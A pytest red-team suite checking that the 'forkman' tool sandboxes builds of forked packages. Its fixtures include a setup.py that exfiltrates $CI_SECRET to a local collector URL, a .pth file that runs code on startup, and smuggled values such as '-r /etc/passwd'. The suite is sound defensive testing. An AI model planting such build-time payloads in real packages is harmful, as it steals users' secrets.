"""Red team: `forkman test` runs no fork code outside the sandbox and tests what is on disk.

Every attack goes through the real CLI, with a real malicious sdist on the
local index, a real HTTP server on 127.0.0.1 playing the attacker's collector,
the real sandbox and the real cache, and asserts what the host sees
afterwards: files, the collector's log, exit codes, the lock.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from forkman.model.lock import load_lock
from forkman.model.project import cache_root
from tests.support.cli import run
from tests.support.index import LocalIndex, default_project_files
from tests.support.wheels import serve_test_runner

pytestmark = [pytest.mark.sandbox, pytest.mark.usefixtures("needs_namespaces")]

SECRET = "hunter2-ci-secret-7f3a"


@pytest.fixture
def collector() -> Iterator[tuple[str, list[str]]]:
    """The attacker's HTTP server on 127.0.0.1: every request it sees is logged."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.end_headers()

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(
        target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    ).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/", seen
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def initialized(cwd: Path, local_index: LocalIndex, monkeypatch: pytest.MonkeyPatch) -> Path:
    assert run("init").exit_code == 0
    serve_test_runner(local_index)
    monkeypatch.setenv("CI_SECRET", SECRET)
    return cwd


def evil_files(name: str, stolen: Path, url: str) -> dict[str, str]:
    """An sdist whose setup.py steals $CI_SECRET at build time and hides its traces."""
    files = default_project_files(name, "1.0")
    files["setup.py"] = (
        "import os, urllib.request\n"
        "from setuptools import setup\n"
        "secret = os.environ.get('CI_SECRET')\n"
        "try:\n"
        f"    open({str(stolen)!r}, 'w').write(str(secret))\n"
        "except OSError:\n"
        "    pass\n"
        "try:\n"
        f"    urllib.request.urlopen({url!r} + '?s=' + str(secret), timeout=3)\n"
        "except Exception:\n"
        "    pass\n"
        f"open('src/{name}/_seen.py', 'w').write('SEEN = %r\\n' % secret)\n"
        "setup()\n"
    )
    files["tests/test_seen.py"] = (
        f"from {name} import _seen\n\n\ndef test_build_saw_no_secret():\n"
        "    assert _seen.SEEN is None\n"
    )
    return files


def test_malicious_setup_py_runs_only_in_the_sandbox(
    initialized: Path,
    local_index: LocalIndex,
    collector: tuple[str, list[str]],
    tmp_path: Path,
) -> None:
    url, seen = collector
    stolen = tmp_path / "stolen.txt"
    local_index.add_sdist("evil", "1.0", evil_files("evil", stolen, url))
    assert run("fork", "evil==1.0").exit_code == 0
    res = run("test", "evil", "--format", "json")
    assert not stolen.exists(), "the build ran on the host and wrote outside the project"
    assert seen == [], "the build reached the network from the host"
    assert SECRET not in res.stdout + res.stderr
    [row] = json.loads(res.stdout)
    # the build ran (in the sandbox, without the secret) and the fork's own tests passed
    assert res.exit_code == 0, res
    assert row["status"] == "passed" and row["tier"].startswith("namespaces"), row
    section = load_lock(initialized / "forkman.lock").forks["evil"].sections["test"]
    assert section["version"] == "1.0"
    assert section["tree"] == load_lock(initialized / "forkman.lock").forks["evil"].vendored_tree
    assert section["imported-from"] == ["evil: evil/__init__.py"]


def test_requirement_with_a_pip_option_reads_no_file(
    initialized: Path, local_index: LocalIndex, tmp_path: Path
) -> None:
    local_index.add_sdist("demo", "1.0")
    assert run("fork", "demo==1.0").exit_code == 0
    secret_file = tmp_path / "secret.env"
    secret_file.write_text(f"CI_SECRET={SECRET}\n")
    with (initialized / "pyproject.toml").open("a") as f:
        f.write(f'\n[tool.forkman.forks.demo.test]\nrequirements = ["-r{secret_file}"]\n')
    before = (initialized / "forkman.lock").read_text()
    res = run("test", "demo")
    assert res.exit_code == 2, res
    assert SECRET not in res.stdout + res.stderr
    assert f"-r{secret_file}" in res.stderr
    assert "not a PEP 508 requirement" in res.stderr
    assert (initialized / "forkman.lock").read_text() == before


def test_pip_options_cannot_turn_on_host_builds(
    initialized: Path, local_index: LocalIndex, tmp_path: Path
) -> None:
    marker = tmp_path / "built-on-host"
    files = default_project_files("sdonly", "1.0")
    files["setup.py"] = (
        f"from setuptools import setup\nopen({str(marker)!r}, 'w').write('x')\nsetup()\n"
    )
    local_index.add_sdist("sdonly", "1.0", files)
    local_index.add_sdist("demo", "1.0")
    assert run("fork", "demo==1.0").exit_code == 0
    with (initialized / "pyproject.toml").open("a") as f:
        f.write(
            "\n[tool.forkman.forks.demo.test]\n"
            'requirements = ["--no-binary=:all:", "--no-build-isolation", "sdonly==1.0"]\n'
        )
    res = run("test", "demo")
    assert res.exit_code == 2, res
    assert "'--no-binary=:all:' is not a PEP 508 requirement" in res.stderr
    assert not marker.exists()


def test_test_requirement_with_only_an_sdist_is_refused_not_built(
    initialized: Path, local_index: LocalIndex, tmp_path: Path
) -> None:
    marker = tmp_path / "built-on-host"
    files = default_project_files("sdonly", "1.0")
    files["setup.py"] = (
        f"from setuptools import setup\nopen({str(marker)!r}, 'w').write('x')\nsetup()\n"
    )
    local_index.add_sdist("sdonly", "1.0", files)
    local_index.add_sdist("demo", "1.0")
    assert run("fork", "demo==1.0").exit_code == 0
    with (initialized / "pyproject.toml").open("a") as f:
        f.write('\n[tool.forkman.forks.demo.test]\nrequirements = ["sdonly==1.0"]\n')
    res = run("test", "demo")
    assert res.exit_code == 2, res
    assert "cannot install the test requirements of demo" in res.stderr
    assert "sdonly" in res.stderr and "forkman fork" in res.stderr
    assert not marker.exists()


def test_a_build_that_fails_is_an_error_not_a_pass_on_other_code(
    initialized: Path, local_index: LocalIndex
) -> None:
    files = default_project_files("broken", "1.0")
    files["setup.py"] = (
        "import sys\nsys.stderr.write('boom: the C compiler is missing\\n')\nsys.exit(3)\n"
    )
    local_index.add_sdist("broken", "1.0", files)
    assert run("fork", "broken==1.0").exit_code == 0
    res = run("test", "broken", "--format", "json")
    assert res.exit_code == 2, res
    assert "boom: the C compiler is missing" in res.stdout + res.stderr
    section = load_lock(initialized / "forkman.lock").forks["broken"].sections.get("test")
    assert section is None or section["status"] != "passed"


def test_include_cannot_leave_the_project_through_a_symlink(
    initialized: Path, local_index: LocalIndex, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "test_secret.py").write_text(f"SECRET = {SECRET!r}\n")
    (initialized / "extra").symlink_to(outside)
    local_index.add_sdist("demo", "1.0")
    assert run("fork", "demo==1.0").exit_code == 0
    with (initialized / "pyproject.toml").open("a") as f:
        f.write('\n[tool.forkman.forks.demo.test]\ninclude = ["extra"]\n')
    res = run("test", "demo")
    assert res.exit_code == 2, res
    assert "include" in res.stderr and "outside the project" in res.stderr


def test_env_of_a_modified_tree_is_never_reused_for_the_pristine_one(
    initialized: Path, local_index: LocalIndex
) -> None:
    files = default_project_files("demo", "1.0")
    files["tests/test_clean.py"] = (
        "import demo\n\n\ndef test_not_poisoned():\n    assert not hasattr(demo, 'POISONED')\n"
    )
    local_index.add_sdist("demo", "1.0", files)
    assert run("fork", "demo==1.0").exit_code == 0
    init = initialized / "vendor/demo/src/demo/__init__.py"
    clean_test = initialized / "vendor/demo/tests/test_clean.py"
    pristine_init, pristine_test = init.read_text(), clean_test.read_text()
    # a pull request's run: its tree (not its lock) carries the poison and hides the check
    init.write_text(pristine_init + "POISONED = True\n")
    clean_test.write_text("def test_nothing():\n    pass\n")
    assert run("test", "demo").exit_code == 0
    # main's run on the same machine, with the pristine tree
    init.write_text(pristine_init)
    clean_test.write_text(pristine_test)
    res = run("test", "demo", "--format", "json")
    assert res.exit_code == 0, res
    assert json.loads(res.stdout)[0]["status"] == "passed"
    envs = [p for p in (cache_root() / "envs").iterdir() if not p.name.startswith(".")]
    assert len(envs) == 2


def test_a_test_requirement_wheel_runs_nothing_on_the_host(
    initialized: Path, local_index: LocalIndex, tmp_path: Path
) -> None:
    # a .pth file runs at the start of every interpreter of the environment it is in
    marker = tmp_path / "pth-ran-on-host"
    local_index.add_wheel(
        "helperlib",
        "1.0",
        {
            "helperlib/__init__.py": "VALUE = 42\n",
            "zz_helperlib.pth": f"import os; open({str(marker)!r}, 'w').write('x')\n",
        },
    )
    local_index.add_sdist("demo", "1.0")
    assert run("fork", "demo==1.0").exit_code == 0
    with (initialized / "pyproject.toml").open("a") as f:
        f.write('\n[tool.forkman.forks.demo.test]\nrequirements = ["helperlib==1.0"]\n')
    res = run("test", "demo")
    assert res.exit_code == 0, res
    assert not marker.exists()


def test_files_the_index_announces_no_hash_for_are_refused(
    initialized: Path, local_index: LocalIndex
) -> None:
    local_index.add_sdist("demo", "1.0")
    assert run("fork", "demo==1.0").exit_code == 0
    local_index.serve_hashes = False
    res = run("test", "demo")
    assert res.exit_code == 2, res
    assert "the index announces no sha256 for" in res.stderr


def test_dependencies_the_project_forks_come_from_the_forks(
    initialized: Path, local_index: LocalIndex
) -> None:
    # the index offers base 1.0 too, as a wheel: the fork (built in the sandbox) must win
    local_index.add_wheel("base", "1.0", {"base/__init__.py": "MARK = 'index'\n"})
    base = default_project_files("base", "1.0")
    base["src/base/__init__.py"] = "MARK = 'fork'\n"
    local_index.add_sdist("base", "1.0", base)
    app = default_project_files("app", "1.0")
    app["pyproject.toml"] = app["pyproject.toml"].replace(
        'requires-python = ">=3.8"\n',
        'requires-python = ">=3.8"\ndependencies = ["base>=1"]\n'
        '[project.optional-dependencies]\ntests = ["app[more]"]\nmore = []\n',
    )
    app["tests/test_base.py"] = (
        "import importlib.metadata, base\n\n\ndef test_uses_the_forks():\n"
        "    assert base.MARK == 'fork'\n"
        "    assert importlib.metadata.version('app') == '1.0'\n"
    )
    local_index.add_sdist("app", "1.0", app)
    local_index.add_wheel("app", "9.9", {"app/__init__.py": "def greet(w):\n    return 'x'\n"})
    assert run("fork", "base==1.0").exit_code == 0
    assert run("fork", "app==1.0").exit_code == 0
    with (initialized / "pyproject.toml").open("a") as f:
        f.write('\n[tool.forkman.forks.app.test]\nextras = ["tests"]\n')
    res = run("test", "app", "--format", "json")
    assert res.exit_code == 0, res
    assert json.loads(res.stdout)[0]["passed"] == 2


HOSTILE_BACKEND = """
import os


def get_requires_for_build_wheel(config_settings=None):
    return [os.environ.get("ASK", "")]


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    raise SystemExit("never reached")
"""


@pytest.mark.parametrize(
    "asked", ["--no-binary=:all:", "-r /etc/passwd", "evil @ http://127.0.0.1:9/evil.whl"]
)
def test_a_backend_cannot_ask_for_pip_options_or_urls(
    initialized: Path, local_index: LocalIndex, asked: str
) -> None:
    files = default_project_files("hostile", "1.0")
    files["pyproject.toml"] = (
        '[build-system]\nrequires = []\nbuild-backend = "_backend"\nbackend-path = ["."]\n\n'
        '[project]\nname = "hostile"\nversion = "1.0"\n'
    )
    files["_backend.py"] = HOSTILE_BACKEND.replace('os.environ.get("ASK", "")', repr(asked))
    local_index.add_sdist("hostile", "1.0", files)
    assert run("fork", "hostile==1.0").exit_code == 0
    res = run("test", "hostile")
    assert res.exit_code == 2, res
    assert "hostile's backend asked for" in res.stderr
    assert repr(asked) in res.stderr
    assert "root:x:0:0" not in res.stdout + res.stderr


def test_a_suite_that_imports_the_source_not_the_build_is_an_error(
    initialized: Path, local_index: LocalIndex
) -> None:
    # tests inside the package: pytest puts the tree's root on sys.path and imports the
    # scratch copy's package, not the build; the proof says so instead of a pass
    files = {
        "pyproject.toml": (
            '[build-system]\nrequires = ["setuptools>=61"]\n'
            'build-backend = "setuptools.build_meta"\n\n'
            '[project]\nname = "inpkg"\nversion = "1.0"\n\n'
            '[tool.setuptools]\npackages = ["inpkg", "inpkg.tests"]\n'
        ),
        "inpkg/__init__.py": "X = 1\n",
        "inpkg/tests/__init__.py": "",
        "inpkg/tests/test_a.py": "from inpkg import X\n\n\ndef test_x():\n    assert X == 1\n",
    }
    local_index.add_sdist("inpkg", "1.0", files)
    assert run("fork", "inpkg==1.0").exit_code == 0
    res = run("test", "inpkg")
    assert res.exit_code == 2, res
    assert "the suite imported inpkg from" in res.stdout
    assert "not from the fork's build in the test environment" in res.stdout
    section = load_lock(initialized / "forkman.lock").forks["inpkg"].sections["test"]
    assert section["status"] == "error"


@pytest.mark.network
def test_real_release_is_built_in_the_sandbox_and_its_suite_imports_the_build(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """six from the real index: setuptools and pytest come as wheels, the sdist is built
    in the sandbox, and its root-level test_six.py imports the build, not six.py beside it."""
    from tests.conftest import git

    root = tmp_path / "consumer"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "pyproject.toml").write_text(
        '[project]\nname = "consumer"\nversion = "0.1.0"\n\n'
        '[tool.forkman]\nindex-url = "https://pypi.org/simple/"\n\n'
        "[tool.forkman.sandbox]\ntimeout = 300\n"
    )
    monkeypatch.chdir(root)
    assert run("init").exit_code == 0
    assert run("fork", "six==1.17.0").exit_code == 0
    res = run("test", "six", "--format", "json")
    [row] = json.loads(res.stdout)
    assert row["status"] in ("passed", "failed"), res
    assert row["passed"] > 150, row
    section = load_lock(root / "forkman.lock").forks["six"].sections["test"]
    assert section["imported-from"] == ["six: six.py"]
    assert section["version"] == "1.17.0"
